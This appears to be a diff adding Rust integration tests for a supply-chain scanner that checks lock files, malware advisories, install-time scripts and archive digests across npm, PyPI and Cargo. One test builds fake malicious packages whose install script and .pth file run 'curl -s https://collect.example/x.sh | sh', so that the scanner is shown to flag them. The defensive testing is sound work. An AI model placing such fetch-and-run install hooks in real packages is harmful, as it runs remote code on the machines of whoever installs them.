@@ -2,7 +2,9 @@
 //! loopback.
 
 use crate::stage::{repo, tares_in};
-use tares_model::Ecosystem::{Npm, PyPi};
+use std::fmt::Write as _;
+use tares_model::Ecosystem::{Cargo, Npm, PyPi};
+use tares_testkit::registry::TestRelease;
 use tares_testkit::{Behaviour, Program, TestPackage, TestRegistry, TestRepo};
 
 fn asking(repo: &TestRepo, registry: &TestRegistry) -> Program {
@@ -276,4 +278,222 @@ fn a_lock_file_of_100_mb_is_not_read() {
     program
         .run(["deps", "--offline"])
         .complains("package-lock.json");
+}
+
+#[test]
+fn a_lock_file_may_be_larger_than_what_people_write() {
+    let repo = repo();
+    let mut text = String::from("{\"packages\": {\n");
+    for number in 0..60_000 {
+        writeln!(
+            text,
+            "\"node_modules/made-up-{number}\": {{\"version\": \"1.0.0\", \"integrity\": \"sha512-{number:0>86}==\"}},"
+        )
+        .unwrap();
+    }
+    text.push_str("\"node_modules/stray\": {\"version\": \"1.0.0\", \"resolved\": \"http://stray.example/stray/-/stray-1.0.0.tgz\"}\n}}");
+    assert!(text.len() > 8 << 20, "{}", text.len());
+    repo.write("package-lock.json", text);
+    let program = tares_in(&repo);
+    program
+        .run(["check", "--offline"])
+        .ends(1)
+        .shows("lock-entry-foreign")
+        .shows("58001 new packages of this file were not asked about");
+    program
+        .run(["scan", "."])
+        .ends(1)
+        .shows("lock-entry-foreign");
+    // Whoever wants smaller files than usual gets them, lock files too.
+    repo.write("tares.toml", "[limits]\nmax-file-size = \"1MiB\"\n");
+    program
+        .run(["check", "--offline", "--config", "tares.toml"])
+        .ends(4)
+        .shows("more than the limit of 1048576");
+}
+
+#[test]
+fn what_is_known_of_a_version_stands_in_the_table_and_in_the_verdict() {
+    let registry = TestRegistry::start();
+    registry.add(TestPackage::seasoned(Npm, "turned"));
+    let repo = repo();
+    let folder = tempfile::tempdir().unwrap();
+    std::fs::write(
+        folder.path().join("malware.json"),
+        r#"{"id":"MAL-2026-1","modified":"2026-11-10T00:00:00Z",
+         "affected":[{"package":{"ecosystem":"npm","name":"turned"},"versions":["1.0.1"]}]}"#,
+    )
+    .unwrap();
+    repo.write(
+        "package.json",
+        "{\"dependencies\": {\"turned\": \"1.0.1\", \"left-pad\": \"1.3.0\"}}",
+    );
+    let program = asking(&repo, &registry).variable("TARES_DATA_DIR", folder.path().join("data"));
+    program
+        .run(["deps", "--offline"])
+        .ends(0)
+        .shows("advisory data: none");
+    program
+        .run(["db", "update", folder.path().to_str().unwrap()])
+        .ends(0);
+    program
+        .run(["deps", "--offline"])
+        .ends(1)
+        .shows("malicious-package")
+        .shows("advisory data: npm: 1 records");
+
+    program
+        .run(["deps", "verify", "turned@1.0.1", "--ecosystem", "npm"])
+        .ends(1)
+        .shows("known flaws or malware: malware")
+        .shows("MAL-2026-1");
+    let clean = program.run(["deps", "verify", "turned@1.0.0", "--ecosystem", "npm"]);
+    clean.ends(0).shows("known flaws or malware: none");
+    let answer = program.run(["deps", "--offline", "--format", "json"]);
+    let value: serde_json::Value = serde_json::from_str(&answer.stdout).unwrap();
+    assert_eq!(value["packages"][0]["known"], "none");
+    assert_eq!(value["packages"][1]["known"], "malware");
+    assert_eq!(value["advisory_data"].as_array().unwrap().len(), 1);
+}
+
+#[test]
+fn verify_judges_code_that_runs_at_installation() {
+    let registry = TestRegistry::start();
+    let release = || TestRelease::new("1.0.0", "2020-01-01T00:00:00Z");
+    let fetch = "curl -s https://collect.example/x.sh | sh";
+    let script = format!("require('child_process').execSync('{fetch}');\n");
+    let start = format!("import os; os.system('{fetch}')\n");
+    registry.add(
+        TestPackage::new(Npm, "bad-kit").with(release().runs_at_install().file("x.js", script)),
+    );
+    registry.add(TestPackage::new(PyPi, "bad-kit").with(release().file("bad_kit.pth", start)));
+    let quiet = "console.log('thank you');\n";
+    registry.add(
+        TestPackage::new(Npm, "good-kit").with(release().runs_at_install().file("x.js", quiet)),
+    );
+    let repo = repo();
+    let program = asking(&repo, &registry);
+    let verify = |name: &str, ecosystem: &str| {
+        let ask = [
+            "deps",
+            "verify",
+            name,
+            "--ecosystem",
+            ecosystem,
+            "--archive",
+        ];
+        program.run(ask)
+    };
+    for ecosystem in ["npm", "pypi"] {
+        verify("bad-kit", ecosystem)
+            .ends(0)
+            .shows("review at installation")
+            .shows("remote-code-runs");
+    }
+    // An archive that is not what the index says is nothing to vouch for.
+    registry.add(TestPackage::new(Npm, "forged").with(release().wrong_digest()));
+    verify("forged", "npm").ends(4).complains("not read");
+    let answer = verify("good-kit", "npm");
+    answer.ends(0);
+    assert!(!answer.stdout.contains("at installation"), "{answer}");
+}
+
+/// What tares judges is byte for byte what the real clients take from the same registry.
+#[test]
+fn verify_reads_the_archive_that_the_real_clients_take() {
+    let registry = TestRegistry::start();
+    let release = || TestRelease::new("1.0.0", "2020-01-01T00:00:00Z");
+    registry.add(TestPackage::new(PyPi, "kit").with(release().file("kit/__init__.py", "x = 1\n")));
+    registry.add(TestPackage::new(Npm, "kit").with(release().file("index.js", "1\n")));
+    registry.add(TestPackage::new(Cargo, "kit").with(release()));
+    let (repo, folder) = (repo(), tempfile::tempdir().unwrap());
+    let cargo_home = folder.path().join("cargo");
+    std::fs::create_dir_all(&cargo_home).unwrap();
+    std::fs::write(cargo_home.join("config.toml"), registry.cargo_config()).unwrap();
+    let program = asking(&repo, &registry).variable("CARGO_HOME", &cargo_home);
+    let judged = |ecosystem: &str| {
+        let answer = program.run([
+            "deps",
+            "verify",
+            "kit@1.0.0",
+            "--ecosystem",
+            ecosystem,
+            "--archive",
+            "--format",
+            "json",
+        ]);
+        answer.ends(0);
+        let value: serde_json::Value = serde_json::from_str(&answer.stdout).unwrap();
+        (
+            value["archive"]["digest"].as_str().unwrap().to_owned(),
+            value["modules"].clone(),
+        )
+    };
+    let client = |program: &str, arguments: &[&str]| {
+        let mut client = std::process::Command::new(program);
+        for (name, _) in std::env::vars() {
+            let lower = name.to_lowercase();
+            if ["pip_", "npm_config", "cargo_"]
+                .iter()
+                .any(|start| lower.starts_with(start))
+            {
+                client.env_remove(name);
+            }
+        }
+        client
+            .args(arguments)
+            .current_dir(folder.path())
+            .envs(registry.environment())
+            .env("CARGO_HOME", &cargo_home);
+        let output = client.output().expect("a client that the tests need");
+        let text = String::from_utf8_lossy(&output.stdout).into_owned();
+        assert!(
+            output.status.success(),
+            "{program}: {text}{}",
+            String::from_utf8_lossy(&output.stderr)
+        );
+        text
+    };
+    let hash = |file: &str| {
+        let said = client("python3", &["-m", "pip", "hash", file]);
+        said.lines()
+            .last()
+            .unwrap()
+            .trim_start_matches("--hash=")
+            .to_owned()
+    };
+    client(
+        "python3",
+        &[
+            "-m",
+            "pip",
+            "download",
+            "--no-deps",
+            "--no-cache-dir",
+            "kit==1.0.0",
+        ],
+    );
+    let (digest, modules) = judged("pypi");
+    assert_eq!(digest, hash("kit-1.0.0-py3-none-any.whl"));
+    assert_eq!(modules, serde_json::json!(["kit"]));
+    client(
+        "npm",
+        &["pack", "kit@1.0.0", "--userconfig=none", "--cache=cache"],
+    );
+    assert_eq!(judged("npm").0, hash("kit-1.0.0.tgz"));
+    std::fs::create_dir_all(folder.path().join("src")).unwrap();
+    std::fs::write(folder.path().join("src/lib.rs"), "").unwrap();
+    std::fs::write(
+        folder.path().join("Cargo.toml"),
+        "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nkit = \"1\"\n",
+    )
+    .unwrap();
+    client("cargo", &["fetch"]);
+    let lock = std::fs::read_to_string(folder.path().join("Cargo.lock")).unwrap();
+    let digest = judged("cargo").0;
+    let hex = digest.strip_prefix("sha256:").unwrap();
+    assert!(
+        lock.contains(&format!("checksum = \"{hex}\"")),
+        "{digest}: {lock}"
+    );
 }
